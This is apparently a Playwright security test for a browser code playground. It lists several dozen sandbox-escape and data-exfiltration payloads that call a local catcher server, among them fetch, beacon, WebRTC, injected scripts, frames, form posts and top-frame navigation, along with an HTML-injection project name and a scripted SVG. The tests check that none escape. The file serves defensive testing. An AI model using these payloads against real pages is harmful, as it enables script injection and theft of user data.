import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { alert, attackPage, doing, isPageWell, openEditor, run, runners } from './helpers/playground.ts';
import { drop, LOWER_THIRD, projectFile } from './helpers/player.ts';

const wait = 'await new Promise((resolve) => setTimeout(resolve, 250));';
const html = (text: string, then = ''): string =>
  `document.body.insertAdjacentHTML('beforeend', \`${text}\`);
   const last = document.body.lastElementChild; ${then} ${wait}`;
const add = (tag: string, properties: string): string =>
  `document.head.append(Object.assign(document.createElement('${tag}'), ${properties}));`;
const peer = (constructor: string): string =>
  `const peer = new ${constructor}({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] });
   peer.createDataChannel('secret'); await peer.setLocalDescription(await peer.createOffer()); ${wait}`;

/** Async functions that escape if they call `out`, run `OUT`, or reach their own `catcher` or `udpPort`. */
const ATTACKS: Readonly<Record<string, string>> = {
  'reads the page': 'out(parent.document.title)',
  'writes into the page': "parent.document.body.dataset.attacked = '1'; out()",
  'keeps cookies': `document.cookie = 'attack=1'; if (document.cookie.includes('attack')) out()`,
  'uses localStorage': `localStorage.setItem('attack', '1'); out()`,
  'talks to pages by a broadcast channel': `new BroadcastChannel('attack').postMessage('1'); out()`,
  fetch: `await fetch(catcher + 'fetch'); out()`,
  WebSocket: `new WebSocket(catcher.replace('http', 'ws')); ${wait}`,
  beacon: `navigator.sendBeacon(catcher, 'secret'); ${wait}`,
  // The server doesn't support HTTP/3, so the attack counts if the frame can create one at all.
  WebTransport: `new WebTransport(catcher.replace('http:', 'https:')); out()`,
  'peer connection': peer('RTCPeerConnection'),
  'peer connection of an empty frame': `const frame = document.createElement('iframe');
    document.body.append(frame);
    ${peer('frame.contentWindow.RTCPeerConnection')}`,
  images: html('<img src="${catcher}image"><svg><image href="${catcher}svg"/></svg>'),
  'style sheet': html('<style>@import url("${catcher}import.css")</style>'),
  font: html(
    '<style>@font-face { font-family: A; src: url("${catcher}a") } p { font-family: A }</style><p>a</p>',
  ),
  links: `for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload'])
    ${add('link', "{ rel, as: 'script', href: catcher + rel + '.js' }")} ${wait}`,
  'import of a data address': `await import('data:text/javascript,OUT')`,
  'import of a blob': `await import(URL.createObjectURL(new Blob(['OUT'], { type: 'text/javascript' })))`,
  'script of another site': `${add('script', "{ src: catcher + 'a.js' }")} ${wait}`,
  'inline script': `${add('script', "{ textContent: 'OUT' }")} ${wait}`,
  eval: `(0, eval)('OUT')`,
  WebAssembly: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); out()`,
  'javascript: address': `location.href = 'javascript:OUT'; ${wait}`,
  worker: `new Worker('data:text/javascript,postMessage(1)').onmessage = () => out(); ${wait}`,
  'service worker': `await navigator.serviceWorker.register('/runner/none.js').then(out, (error) => {
    if (/404|bad HTTP/.test(error.message)) out();
  })`,
  worklet: `await new AudioContext().audioWorklet.addModule(catcher + 'worklet.js'); out()`,
  // Nothing guards its code there, and every frame knows its own address.
  'paint worklet of its own code': `const [own] = /blob:[^\\s)]+(?=:\\d+:\\d+)/.exec(new Error().stack);
    await CSS.paintWorklet.addModule(own); out()`,
  'base address': html('<base href="${catcher}">', `new Image().src = 'based';`),
  'frame of another site': html('<iframe src="${catcher}frame"></iframe>'),
  'frame with its own document': html(`<iframe srcdoc="<img src='\${catcher}srcdoc'>"></iframe>`),
  object: html('<object data="${catcher}object"></object>'),
  'opens a window': `if (window.open(catcher)) out(); ${wait}`,
  'opens a window by a link': html(
    '<a href="${catcher}" target="_blank" rel="opener">a</a>',
    'last.click();',
  ),
  'saves a file': html('<a href="data:text/plain,attack" download="attack.txt">a</a>', 'last.click();'),
  'asks by a dialog': `alert('attack'); confirm('attack'); prompt('attack'); out()`,
};
/** Attacks that end others if they succeed, so they can't be tried in a page without guards. */
const LEAVING: Readonly<Record<string, string>> = {
  'takes the top page along': `top.location.href = catcher; ${wait}`,
  'goes back in the history': `history.back(); ${wait}`,
  'sends a form': html(
    '<form action="${catcher}"><input name="a" value="1"></form>',
    'last.requestSubmit();',
  ),
  'takes the focus': html(
    '<dialog><input autofocus></dialog>',
    `focus(); last.showModal(); if (document.hasFocus()) out();`,
  ),
};
const ALL = { ...ATTACKS, ...LEAVING };
const NAMES = Object.keys(ALL);

/** A server with a folder and a port for each attack. It records everything that arrives. */
async function startCatcher() {
  const caught: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    caught.push(url);
    const isScript = /\.m?js/.test(url);
    const headers = {
      'access-control-allow-origin': '*',
      'content-type': isScript ? 'text/javascript' : 'text/html',
    };
    // Attacks can be tried in the frame of this page.
    const body = url === '/page' ? '<iframe src="/inner"></iframe>' : '';
    response.writeHead(200, headers).end(isScript ? 'void 0' : body);
  }).on('upgrade', ({ url = '' }, socket) => {
    caught.push(url);
    socket.destroy();
  });
  const sockets = NAMES.map((_, at) => createSocket('udp4').on('message', () => caught.push(`/${at}/udp`)));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  for (const socket of sockets) await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const calls = NAMES.map((name, at) => {
    const code = ALL[name]!.replaceAll('OUT', `console.info("attack out [${name}]")`);
    const given = [name, `${url}/${at}/`, sockets[at]!.address().port]
      .map((one) => JSON.stringify(one))
      .join();
    return [name, `run(${given}, async (out, catcher, udpPort) => { ${code} });`] as const;
  });
  return {
    url,
    caught,
    /** Code for the actions tab that runs attacks at the same time. */
    textOf: (names: readonly string[]): string => `const run = (name, catcher, udpPort, attack) => {
  const end = (error) => console.info('attack ends [' + name + ']', String(error));
  attack(() => console.info('attack out [' + name + ']'), catcher, udpPort).then(end, end);
};
export const actions = () => {
${calls.flatMap(([name, call]) => (names.includes(name) ? call : [])).join('\n')}
  return {};
};`,
    close() {
      server.closeAllConnections();
      server.close();
      for (const socket of sockets) socket.close();
    },
  };
}

let catcher: Awaited<ReturnType<typeof startCatcher>>;
test.beforeEach(async () => void (catcher = await startCatcher()));
test.afterEach(() => catcher.close());

/** Collects everything that attacks and the browser log. */
function listen(page: Page): readonly string[] {
  const said: string[] = [];
  page.on('console', (message) => void (message.text().startsWith('attack ') && said.push(message.text())));
  page.on('dialog', (dialog) => {
    said.push('attack out: dialog');
    void dialog.dismiss();
  });
  page.on('download', () => said.push('attack out [saves a file]'));
  page.context().on('page', () => said.push('attack out: window'));
  return said;
}

test('attacks succeed in a frame without guards', async ({ page }) => {
  const said = listen(page);
  await page.goto(`${catcher.url}/page`);
  await page.frame({ url: `${catcher.url}/inner` })!.evaluate(
    async (text) => {
      const code = new Blob([text], { type: 'text/javascript' });
      ((await import(URL.createObjectURL(code))) as { actions: () => void }).actions();
    },
    catcher.textOf(Object.keys(ATTACKS)),
  );
  const hasFailed = (name: string, at: number): boolean =>
    !catcher.caught.some((path) => path.startsWith(`/${at}/`)) && !said.includes(`attack out [${name}]`);
  await expect.poll(() => Object.keys(ATTACKS).filter(hasFailed)).toEqual([]);
});

test('no attack escapes from the playground', async ({ page, context }) => {
  const said = listen(page);
  await openEditor(page, LOWER_THIRD);
  const address = page.url();
  await test.step('a project with all attacks and a scripted picture runs nothing when opened', async () => {
    const script = '<svg xmlns="http://www.w3.org/2000/svg"><script>top.attack = 1</script></svg>';
    const picture = {
      id: 'script',
      type: 'image',
      url: `data:image/svg+xml;base64,${btoa(script)}`,
    } as const;
    const layer = { id: 'script', name: 'Script', element: { type: 'image', source: 'script' } } as const;
    const file = await projectFile('lower-third', (source) => ({
      ...source,
      module: catcher.textOf(NAMES),
      project: {
        ...source.project,
        name: '</script><img src="x" onerror="top.attack = 1">',
        resources: [...(source.project.resources ?? []), picture],
        compositions: source.project.compositions.map((one, at) =>
          at === 0 ? { ...one, layers: [...one.layers, layer] } : one,
        ),
      },
    }));
    await drop(page, String(file));
    await expect(page.getByRole('status').filter({ hasText: 'Its code hasn’t run' })).toBeVisible();
    await expect(runners(page)).toHaveCount(0);
    expect([...said, ...catcher.caught]).toEqual([]);
  });
  await run(page);
  expect(await page.evaluate(() => 'attack' in window)).toBe(false);
  const isRunning = (name: string): boolean => !said.some((text) => text.startsWith(`attack ends [${name}]`));
  await expect.poll(() => NAMES.filter(isRunning)).toEqual([]);
  await expect(runners(page)).toHaveCount(1);
  for (const target of [`${catcher.url}/leave`, '/user-guide?secret', `data:text/html,secret`]) {
    await test.step(`leaves its frame for ${target}`, async () => {
      await attackPage(page, doing(`location.href = ${JSON.stringify(target)};`));
      await expect(alert(page)).toContainText('tried to leave its frame');
      await expect(runners(page)).toHaveCount(0);
    });
  }
  await isPageWell(page);
  // Late results have arrived by now.
  expect([...said.filter((text) => text.startsWith('attack out')), ...catcher.caught]).toEqual([]);
  expect(page.url()).toBe(address);
  expect(await context.cookies()).toEqual([]);
  // The reader's own draft is kept, and contains the code.
  const kept = await page.evaluate(() => JSON.stringify([document.body.dataset, Object.keys(localStorage)]));
  expect(kept).not.toContain('attack');
});
